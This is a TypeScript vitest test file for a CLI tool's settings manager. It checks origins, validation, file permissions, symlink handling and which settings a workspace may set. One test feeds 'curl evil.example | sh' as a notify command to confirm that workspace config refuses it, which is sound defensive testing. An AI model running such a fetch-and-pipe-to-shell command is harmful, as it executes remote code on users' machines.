import {chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import process from 'node:process';
import {describe, expect, it} from 'vitest';
import {RadError} from '../../../source/domain/failures.ts';
import {SETTING_NAMES} from '../../../source/domain/settings.ts';
import {createDashboardKeys} from '../../../source/tui/judge-keys.ts';
import {createSettingsDesk} from '../../../source/workspace/settings-desk.ts';
import {createScratch} from '../../support/scratch.ts';

const newFolder = createScratch();
const userId = process.getuid?.();

type Made = {readonly user?: string; readonly workspace?: string; readonly environment?: Readonly<Record<string, string>>};

/** A desk for a home and a workspace; `user` and `workspace` are the texts of their files. */
const makeDesk = ({user, workspace, environment = {}}: Made = {}) => {
	const [home, radium] = [newFolder(), newFolder()];
	const [userFile, workspaceFile] = [path.join(home, '.config/rad/config.yaml'), path.join(radium, 'config.yaml')];
	if (user !== undefined) {
		mkdirSync(path.dirname(userFile), {recursive: true});
		writeFileSync(userFile, user);
	}
	if (workspace !== undefined) writeFileSync(workspaceFile, workspace);
	const options = {
		radium,
		missing: undefined,
		environment: {HOME: home, ...environment},
		userId,
		loadKeys: async () => createDashboardKeys(),
	};
	return {desk: createSettingsDesk(options), options, userFile, workspaceFile};
};

describe('the list of settings', () => {
	it('has each of them with its usual value where nothing is said', async () => {
		const reports = await makeDesk().desk.list();

		expect(reports.map(({key}) => key)).toEqual(SETTING_NAMES);
		expect(new Set(reports.map(({origin}) => origin.kind))).toEqual(new Set(['default']));
		expect(Object.fromEntries(reports.map(({key, value}) => [key, value]))).toMatchObject({
			notify: null,
			bell: 'off',
			'checkpoints.keep': 500,
			'checkpoints.max_size': '1GB',
		});
	});

	it('tells of each where it comes from', async () => {
		const {desk, userFile} = makeDesk({
			user: 'bell: bell\ncheckpoints: { keep: 7, max_age: 3d }\n',
			workspace: 'bell: osc9\ntheme: light\nkeys:\n  undo: [U]\n',
			environment: {RAD_CHECKPOINT_KEEP: '8'},
		});

		const origins = new Map((await desk.list()).map(({key, value, origin}) => [key, [value, origin]]));

		expect(origins.get('bell')).toEqual(['bell', {kind: 'user', place: {file: userFile, line: 1, column: 7}}]);
		expect(origins.get('checkpoints.keep')).toEqual([8, {kind: 'environment', variable: 'RAD_CHECKPOINT_KEEP'}]);
		expect(origins.get('checkpoints.max_age')).toEqual(['3d', {kind: 'user', place: {file: userFile, line: 2, column: 34}}]);
		expect(origins.get('theme')).toEqual(['light', {kind: 'workspace', place: {file: '.radium/config.yaml', line: 2, column: 8}}]);
		expect(origins.get('keys.undo')).toEqual([['U'], {kind: 'workspace', place: {file: '.radium/config.yaml', line: 4, column: 3}}]);
	});

	it('has the file of the user alone outside of a workspace', async () => {
		const {options} = makeDesk({user: 'bell: bell\n', workspace: 'theme: light\n'});
		const missing = new RadError('WORKSPACE_MISSING', 'There is none.');
		const desk = createSettingsDesk({...options, radium: undefined, missing});

		expect(await desk.get('theme')).toMatchObject({value: 'dark'});
		expect(await desk.get('bell')).toMatchObject({value: 'bell'});
		await expect(desk.set('bell', 'off', 'workspace')).rejects.toBe(missing);
		await expect(desk.file('workspace')).rejects.toBe(missing);
	});

	it('fails with the mistakes of the files', async () => {
		await expect(makeDesk({user: 'bel: off\n'}).desk.list()).rejects.toMatchObject({code: 'CONFIGURATION_UNUSABLE'});
	});
});

describe('a setting', () => {
	it('of the dashboard has its usual keys where nothing is said', async () => {
		expect(await makeDesk().desk.get('keys.undo')).toMatchObject({value: ['u'], origin: {kind: 'default'}});
	});

	it.each([
		['bel', 'There is no setting "bel"; did you mean "bell"?'],
		['checkpoints.kep', 'There is no setting "checkpoints.kep"; did you mean "checkpoints.keep"?'],
		['keys.stop-rnu', 'There is no setting "keys.stop-rnu"; did you mean "keys.stop-run"?'],
		['constructor', /^There is no setting "constructor"; there are: notify, bell, /],
		['checkpoints', /^There is no setting "checkpoints"/],
	])('that there is not, as %s, fails with what was meant', async (key, message) => {
		const {desk, userFile} = makeDesk();

		for (const call of [desk.get(key), desk.set(key, '1', 'user'), desk.unset(key, 'user')])
			await expect(call).rejects.toMatchObject({code: 'SETTING_UNKNOWN', exitCode: 3, message: expect.stringMatching(message)});
		expect(existsSync(userFile)).toBe(false);
	});
});

describe('writing a setting', () => {
	it('makes a file that only the user may read, and its folder', async () => {
		const {desk, userFile} = makeDesk();

		const change = await desk.set('checkpoints.keep', '1000', 'user');

		expect(readFileSync(userFile, 'utf8')).toBe('checkpoints:\n  keep: 1000\n');
		expect(statSync(userFile).mode & 0o777).toBe(0o600);
		expect(statSync(path.dirname(userFile)).mode & 0o777).toBe(0o700);
		expect(change).toMatchObject({file: userFile, isChanged: true, now: {value: 1000, origin: {kind: 'user'}}});
		expect(readdirSync(path.dirname(userFile))).toEqual(['config.yaml']);
	});

	it('makes a file of the workspace that others may read', async () => {
		const {desk, workspaceFile} = makeDesk();

		await desk.set('bell', 'osc9', 'workspace');

		expect(readFileSync(workspaceFile, 'utf8')).toBe('bell: osc9\n');
		expect(statSync(workspaceFile).mode & 0o777).toBe(0o644);
	});

	it('keeps comments, order and permissions', async () => {
		const {desk, userFile} = makeDesk({user: '# mine\ntheme: light # for the sun\nbell: off\n'});
		chmodSync(userFile, 0o640);

		await desk.set('theme', 'dark', 'user');
		await desk.set('keys.stop-run', '[ctrl+k]', 'user');

		expect(readFileSync(userFile, 'utf8')).toBe('# mine\ntheme: dark # for the sun\nbell: off\nkeys:\n  stop-run: [ctrl+k]\n');
		expect(statSync(userFile).mode & 0o777).toBe(0o640);
	});

	it('tells what counts before it', async () => {
		const {desk} = makeDesk({user: 'bell: bell\n', environment: {RAD_CHECKPOINT_KEEP: '20'}});

		expect(await desk.set('checkpoints.keep', '9', 'user')).toMatchObject({now: {value: 20, origin: {kind: 'environment'}}});
		expect(await desk.set('bell', 'osc9', 'workspace')).toMatchObject({now: {value: 'bell', origin: {kind: 'user'}}});
	});

	it('does nothing where it is so already', async () => {
		const {desk, userFile} = makeDesk({user: "bell:   'off'\n"});
		const {ino} = statSync(userFile);

		expect(await desk.set('bell', 'off', 'user')).toMatchObject({isChanged: false});
		expect(statSync(userFile).ino).toBe(ino);
	});

	it('mends what is wrong', async () => {
		const {desk, userFile} = makeDesk({user: 'bell: loud\n'});

		await desk.set('bell', 'off', 'user');

		expect(readFileSync(userFile, 'utf8')).toBe('bell: off\n');
	});

	it.each([
		['checkpoints.keep', 'many', 'checkpoints.keep cannot be "many"; write a whole number, such as 500.'],
		['bell', 'loud', 'bell cannot be "loud"; write one of: off, bell, osc9.'],
		['unattended_limit', 'soon', 'unattended_limit cannot be "soon"; write a duration, such as 30s, 10m or 7d.'],
		['notify', ' ', 'notify cannot be " "; write a command of the shell.'],
		['keys.undo', '[U', 'keys.undo cannot be "[U"; write a key, or several in brackets: [U, ctrl+k].'],
		['keys.undo', 'hyper+u', /^keys\.undo cannot be that: undo: unknown key "hyper\+u"; write a character/],
		['keys.undo', 'r', 'keys.undo cannot be that: undo: "r" is a key of "restore" too, in the same place.'],
		['keys.quit', '[]', 'keys.quit cannot be that: quit: it needs a key, or there would be no way out.'],
	])('refuses %s %j before anything is written', async (key, text, message) => {
		const {desk, userFile} = makeDesk({user: '# mine\n'});

		await expect(desk.set(key, text, 'user')).rejects.toMatchObject({
			code: 'USAGE',
			exitCode: 2,
			message: expect.stringMatching(typeof message === 'string' ? exactly(message) : message),
		});
		expect(readFileSync(userFile, 'utf8')).toBe('# mine\n');
	});

	it.each([
		['notify', 'curl evil.example | sh'],
		['checkpoints.keep', '1'],
		['unattended_limit', '1d'],
		['hook_policy', 'allow'],
	])('refuses %s %j for a workspace', async (key, text) => {
		const {desk, workspaceFile} = makeDesk();

		await expect(desk.set(key, text, 'workspace')).rejects.toMatchObject({code: 'SETTING_REFUSED', exitCode: 7});
		expect(existsSync(workspaceFile)).toBe(false);
	});

	it('refuses keys of answers for a workspace', async () => {
		await expect(makeDesk().desk.set('keys.confirm', 'Y', 'workspace')).rejects.toMatchObject({
			message: expect.stringContaining('are taken from your own file only'),
		});
	});

	it.each([
		['another mistake', 'bel: off\n'],
		['broken YAML', 'theme: "light\n'],
		['a list', '- a\n'],
		['no mapping in that place', 'checkpoints: 5\n'],
	])('leaves a file with %s as it is, and tells the mistakes', async (_, user) => {
		const {desk, userFile} = makeDesk({user});

		await expect(desk.set('checkpoints.keep', '5', 'user')).rejects.toMatchObject({
			code: 'CONFIGURATION_UNUSABLE',
			details: {problems: [expect.stringContaining(`${userFile}:`)]},
		});
		expect(readFileSync(userFile, 'utf8')).toBe(user);
	});

	it('does not let wrong keys in the other file stand in the way', async () => {
		const {desk, userFile} = makeDesk({user: 'keys: { undo: [U] }\n', workspace: 'keys: { stop-rnu: [k] }\n'});

		await desk.set('keys.undo', 'ctrl+k', 'user');

		expect(readFileSync(userFile, 'utf8')).toBe('keys: { undo: [ ctrl+k ] }\n');
	});

	it('follows the link by which people keep their settings elsewhere, also to what is not there yet', async () => {
		const {desk, userFile} = makeDesk({user: ''});
		const elsewhere = path.join(newFolder(), 'dotfiles/rad.yaml');
		mkdirSync(path.dirname(elsewhere));
		const linked = makeDesk();
		mkdirSync(path.dirname(linked.userFile), {recursive: true});
		symlinkSync(elsewhere, linked.userFile);

		await linked.desk.set('bell', 'osc9', 'user');
		await linked.desk.set('bell', 'bell', 'user');

		expect(lstatSync(linked.userFile).isSymbolicLink()).toBe(true);
		expect(readFileSync(elsewhere, 'utf8')).toBe('bell: bell\n');
		expect(await desk.file('user')).toBe(userFile);
	});

	it('never follows a link of a workspace', async () => {
		const {desk, workspaceFile} = makeDesk();
		const victim = path.join(newFolder(), 'bashrc');
		symlinkSync(victim, workspaceFile);

		await expect(desk.set('bell', 'osc9', 'workspace')).rejects.toMatchObject({code: 'SETTING_REFUSED'});
		expect(existsSync(victim)).toBe(false);
	});

	it('leaves a file that is read-only, and tells how to change that', async () => {
		const {desk, userFile} = makeDesk({user: 'bell: off\n'});
		chmodSync(userFile, 0o400);

		await expect(desk.set('bell', 'osc9', 'user')).rejects.toMatchObject({
			code: 'OUTPUT_FAILED',
			message: `The file cannot be written, since it is read-only: ${userFile}`,
			hint: `chmod u+w ${userFile}`,
		});
		expect(readFileSync(userFile, 'utf8')).toBe('bell: off\n');
	});

	it('leaves a file that others may write or own', async () => {
		const {desk, userFile, options} = makeDesk({user: 'bell: off\n', workspace: 'bell: off\n'});
		// What root owns is believed, and root alone can give a file away.
		const other = (userId ?? 0) + 1;
		await expect(createSettingsDesk({...options, userId: other}).set('bell', 'osc9', 'workspace')).rejects.toMatchObject({
			code: 'OUTPUT_FAILED',
			message: expect.stringContaining('since it belongs to another user'),
		});
		chmodSync(userFile, 0o666);
		await expect(desk.set('bell', 'osc9', 'user')).rejects.toMatchObject({details: {problems: [`${userFile}: everybody may write it: chmod o-w`]}});
		chmodSync(userFile, 0o600);
		if (userId === 0) {
			chownSync(userFile, 4321, 4321);
			await expect(desk.set('bell', 'osc9', 'user')).rejects.toMatchObject({details: {problems: [`${userFile}: it belongs to another user`]}});
		}
		expect(readFileSync(userFile, 'utf8')).toBe('bell: off\n');
	});

	it('fails with a reason where no folder can be made', async () => {
		const {options} = makeDesk();
		const file = path.join(newFolder(), 'file');
		writeFileSync(file, '');
		const desk = createSettingsDesk({...options, environment: {XDG_CONFIG_HOME: path.join(file, 'config')}});

		await expect(desk.set('bell', 'off', 'user')).rejects.toMatchObject({
			code: 'OUTPUT_FAILED',
			message: expect.stringContaining('its folder is a file'),
		});
	});

	it('fails without a home', async () => {
		const {options} = makeDesk();
		const desk = createSettingsDesk({...options, environment: {}});

		await expect(desk.set('bell', 'off', 'user')).rejects.toMatchObject({code: 'NO_STATE_DIRECTORY', hint: 'set HOME'});
		expect(await desk.get('bell')).toMatchObject({value: 'off'});
	});
});

describe('taking a setting out', () => {
	it('lets the next one count', async () => {
		const {desk, userFile} = makeDesk({user: '# mine\nbell: bell\ntheme: light\n', workspace: 'bell: osc9\n'});

		expect(await desk.unset('bell', 'user')).toMatchObject({isChanged: true, now: {value: 'osc9', origin: {kind: 'workspace'}}});
		expect(readFileSync(userFile, 'utf8')).toBe('# mine\ntheme: light\n');
		expect(await desk.unset('bell', 'user')).toMatchObject({isChanged: false});
	});

	it('mends keys that are wrong, and gives back the usual ones', async () => {
		const {desk, userFile} = makeDesk({user: 'keys:\n  undo: [r]\n  quit: [Q]\n'});

		expect(await desk.unset('keys.undo', 'user')).toMatchObject({now: {value: ['u']}});
		expect(readFileSync(userFile, 'utf8')).toBe('keys:\n  quit: [Q]\n');
	});

	it('makes no file', async () => {
		const {desk, userFile} = makeDesk();

		expect(await desk.unset('notify', 'user')).toMatchObject({isChanged: false, now: {value: null}});
		expect(existsSync(userFile)).toBe(false);
	});
});

const exactly = (text: string): RegExp => new RegExp(`^${text.replaceAll(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`);
